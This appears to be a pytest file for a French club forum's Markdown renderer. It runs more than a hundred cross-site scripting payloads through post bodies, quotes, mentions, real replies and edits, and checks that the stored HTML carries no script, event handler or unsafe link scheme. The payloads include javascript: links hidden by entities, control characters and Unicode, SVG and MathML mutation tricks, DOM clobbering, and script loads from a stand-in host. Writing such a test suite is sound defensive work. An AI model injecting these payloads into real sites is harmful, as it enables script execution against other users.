"""Hostile Markdown: whatever a member writes, the stored HTML runs no script and loads nothing.

Each payload is rendered as a post body, inside a quote, next to a mention, and through a real
post (messaging.actions.post_reply). The output is parsed and judged element by element: only
allowed tags, no event handler, no id/name/style, and every link to http, https, mailto or a
relative address. The payload's text may appear, escaped: that is what a member sees.
"""

import html
import itertools
import re
import unicodedata

import pytest
from bs4 import BeautifulSoup

from clubs.models import Club, Membership, Role
from messaging import actions, markdown

MENTIONS = {"claire-martin": "/membres/claire-martin/"}

PAYLOADS = [
    # Script tags, in every case and shape.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/xss src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script><p>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<div onmouseover="alert(1)">survol</div>',
    '<a href="https://exemple.fr" onmouseover="alert(1)">lien</a>',
    "<p onclick=alert(1)>clic</p>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # javascript: in Markdown links, autolinks and reference links, in every disguise.
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](javascript&#58;alert(1))",
    "[clic](javascript&colon;alert(1))",
    "[clic](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[clic](&#x6A;avascript:alert(1))",
    "[clic](java%73cript:alert(1))",
    "[clic](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))",
    "[clic]( javascript:alert(1))",
    "[clic](java\tscript:alert(1))",
    "[clic](java&#x09;script:alert(1))",
    "[clic](java&#10;script:alert(1))",
    "[clic](jav&#x0A;ascript:alert(1))",
    "[clic](\x01javascript:alert(1))",
    "[clic](javascript://%0Aalert(1))",
    '[clic](javascript:alert(1) "https://exemple.fr")',
    "[clic](<javascript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "javascript:alert(1)",
    "[clic][x]\n\n[x]: javascript:alert(1)",
    "[clic][x]\n\n[x]: <javascript:alert(1)>",
    '[x]: JavaScript:alert(1) "titre"\n\n[x]',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)">unclosed',
    '[x](#" onclick="alert(1))',
    '[a](https://exemple.fr"onmouseover="alert(1))',
    '[clic](https://exemple.fr/"><script>alert(1)</script>)',
    # Other dangerous schemes.
    "[clic](vbscript:msgbox(1))",
    "[clic](VBScript:msgbox(1))",
    "<vbscript:msgbox(1)>",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](data:text/html,<script>alert(1)</script>)",
    "[clic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<data:text/html,<script>alert(1)</script>>",
    "[clic](file:///etc/passwd)",
    # Images.
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](https://exemple.fr/x.png" onerror="alert(1))',
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/p.gif)](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://exemple.fr)",
    # SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Embedding, forms, documents.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # CSS.
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">css</div>',
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    # Clobbering.
    '<a id="__proto__" name="getElementById">clobber</a>',
    '<form name="body"><input name="cookie"></form>',
    '<img name="getElementsByTagName" id="location">',
    # Broken markup, unclosed tags, comments.
    "<img src=x onerror=alert(1)",
    "<script>alert(1)",
    "<<img src=x onerror=alert(1)//>>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p title="</p><script>alert(1)</script>">',
    # Quotes, nested, with HTML.
    "> <script>alert(1)</script>\n>> <img src=x onerror=alert(1)>",
    "> [clic](javascript:alert(1))\n> > <iframe src=x>",
    "> > > <svg onload=alert(1)>\n> > [x](vbscript:1)",
    # Code fences and tables.
    '```"><script>alert(1)</script>\nx\n```',
    '```" onmouseover="alert(1)\ncode\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |\n|---|---|\n| 1 | 2 |",
    # Unicode tricks in the scheme.
    "[clic](java\u2028script:alert(1))",
    "[clic](java\u2029script:alert(1))",
    "[clic](java\u200bscript:alert(1))",
    "[clic](\u200bjavascript:alert(1))",
    "[clic](javascript\u200b:alert(1))",
    "[clic](\ufeffjavascript:alert(1))",
    "[clic](\u00a0javascript:alert(1))",
    "[clic](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    # Autolinked addresses that carry markup.
    "www.exemple.fr/<script>alert(1)</script>",
    'https://exemple.fr/?q="><svg/onload=alert(1)>',
    "https://exemple.fr/<img src=x onerror=alert(1)>",
    # Mentions glued to markup.
    "@claire-martin<script>alert(1)</script>",
    "[@claire-martin](javascript:alert(1))",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "style", "img", "form", "input", "base",
    "meta", "link", "math", "textarea", "button", "video", "audio", "source", "frame",
    "frameset", "noscript", "template", "details", "body", "html", "head", "title", "marquee",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"id", "name", "style", "src", "srcdoc", "action", "formaction", "data"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
RAW_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][^\s/>]*)")


def _invisible(ch: str) -> bool:
    return ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf", "Zs", "Zl", "Zp"}


def scheme_of(url: str) -> str | None:
    """The scheme a browser could see in the address: unescaped (twice, to be safe), without
    whitespace or invisible characters; None for a relative address. (Percent-encoding is left
    alone: browsers do not decode it in a scheme, so "%6A…%3A…" is a relative address.)"""
    url = html.unescape(html.unescape(url))
    url = unicodedata.normalize("NFKC", url)
    url = "".join(ch for ch in url if not _invisible(ch))
    match = SCHEME.match(url)
    return match.group(1).lower() if match else None


def assert_safe(rendered: str) -> BeautifulSoup:
    # The raw string first: every tag it opens or closes is an allowed one (escaped text such as
    # "&lt;script&gt;" is no tag).
    for name in RAW_TAG.findall(rendered):
        assert name.lower() in markdown.ALLOWED_TAGS, (name, rendered)
    tree = BeautifulSoup(rendered, "html.parser")
    for element in tree.find_all(True):
        assert element.name not in FORBIDDEN_TAGS, rendered
        assert element.name in markdown.ALLOWED_TAGS, rendered
        allowed = markdown.ALLOWED_ATTRIBUTES.get(element.name, set()) | (
            {"rel"} if element.name == "a" else set()
        )
        for attribute, value in element.attrs.items():
            name = attribute.lower()
            assert not name.startswith("on"), rendered
            assert name not in FORBIDDEN_ATTRIBUTES, rendered
            assert name in allowed, (element.name, name, rendered)
            if name == "href":
                assert isinstance(value, str), (value, rendered)
                assert scheme_of(value) in SAFE_SCHEMES | {None}, (value, rendered)
            if name == "class":
                # Only the mention class on links and a code block's language: no class from the
                # author could restyle the page (the quoted info string stays inside the value).
                classes = value if isinstance(value, list) else value.split()
                if element.name == "a":
                    assert classes == ["mention"], rendered
                else:
                    assert all(c.startswith("language-") for c in classes), rendered
    return tree


def render(source: str, **kw) -> str:
    return markdown.render(source, **kw).html


ids = [f"{n:03d}" for n in range(len(PAYLOADS))]


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_a_hostile_post_body_renders_safely(payload):
    assert_safe(render(payload))
    assert_safe(render(payload, mention_urls=MENTIONS))


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_a_hostile_post_renders_safely_inside_a_quote(payload):
    tree = assert_safe(render(markdown.quote(payload, "Nom")))
    assert tree.blockquote is not None
    assert tree.blockquote.strong.get_text() == "Nom"


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_a_hostile_post_renders_safely_next_to_a_mention(payload):
    rendered = markdown.render("@claire-martin " + payload, mention_urls=MENTIONS)
    tree = assert_safe(rendered.html)
    mention = tree.find("a", class_="mention")
    assert mention is not None and mention["href"] == "/membres/claire-martin/"
    assert rendered.mentioned_handles == {"claire-martin"}


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_a_hostile_quote_of_a_quote_renders_safely(payload):
    assert_safe(render(markdown.quote(markdown.quote(payload, "Un") + payload, "Deux")))


@pytest.mark.parametrize(
    "author_name",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "**</strong><img src=x onerror=alert(1)>",
        "Claire\n\n<iframe src=x>",
        "@claire-martin",
    ],
)
def test_a_hostile_author_name_in_a_quote_renders_safely(author_name):
    assert_safe(render(markdown.quote("Bonjour", author_name), mention_urls=MENTIONS))


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<a href="javascript:alert(1)">x</a>',
        "<style>body{display:none}</style>",
    ],
)
def test_raw_html_is_shown_as_the_text_the_member_typed(payload):
    tree = assert_safe(render(payload))
    assert tree.get_text().strip() == payload


@pytest.mark.parametrize(
    "payload",
    ["[clic](javascript:alert(1))", "<javascript:alert(1)>", "[clic](vbscript:msgbox(1))"],
)
def test_a_refused_link_stays_readable_text(payload):
    tree = assert_safe(render(payload))
    assert tree.find("a") is None
    assert "alert(1)" in tree.get_text() or "msgbox(1)" in tree.get_text()


def test_the_checker_catches_what_it_should():
    """The judge itself is judged: unsafe HTML must fail it."""
    unsafe = [
        "<script>alert(1)</script>",
        '<p onclick="x">a</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" &#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<p id="x">a</p>',
        '<p style="color:red">a</p>',
        "<img src=x>",
    ]
    for fragment in unsafe:
        with pytest.raises(AssertionError):
            assert_safe(fragment)
    assert_safe('<p><a href="/membres/x/" rel="nofollow noopener">x</a> &lt;script&gt;</p>')


# --- Through a real post ------------------------------------------------------------------------

_counter = itertools.count(1)


@pytest.fixture
def club(db):
    return Club.objects.create(name="Secrétaires de mairie", slug=f"xss-{next(_counter)}")


@pytest.fixture
def claire(make_user, club):
    user = make_user("claire@mairie.fr", first_name="Claire", last_name="Martin")
    Membership.objects.create(user=user, club=club, role=Role.MEMBER)
    assert user.profile.handle == "claire-martin"
    return user


@pytest.fixture
def thread(make_user, club, claire):
    author = make_user("nadia@mairie.fr", first_name="Nadia", last_name="Lefèvre")
    Membership.objects.create(user=author, club=club, role=Role.MODERATOR)
    return actions.start_thread(
        author=author, club=club, title="Fil de test", source="Premier message"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_a_hostile_reply_is_stored_as_safe_html(payload, thread, claire):
    post = actions.post_reply(author=claire, thread=thread, source=payload)
    post.refresh_from_db()
    assert_safe(post.html)
    assert post.source == payload.strip()

    quoted = actions.post_reply(
        author=claire, thread=thread, source=markdown.quote(payload, claire.display_name) + "Oui"
    )
    assert_safe(quoted.html)

    mentioning = actions.post_reply(
        author=claire, thread=thread, source="@claire-martin " + payload
    )
    mentioning.refresh_from_db()
    tree = assert_safe(mentioning.html)
    assert tree.find("a", class_="mention")["href"] == "/membres/claire-martin/"
    assert list(mentioning.mentions.all()) == [claire]


@pytest.mark.django_db
def test_a_hostile_edit_is_stored_as_safe_html(thread, claire):
    post = actions.post_reply(author=claire, thread=thread, source="Bonjour")
    for payload in PAYLOADS:
        post = actions.edit_post(editor=claire, post=post, source=payload + "\n\nmodifié")
        post.refresh_from_db()
        assert_safe(post.html)
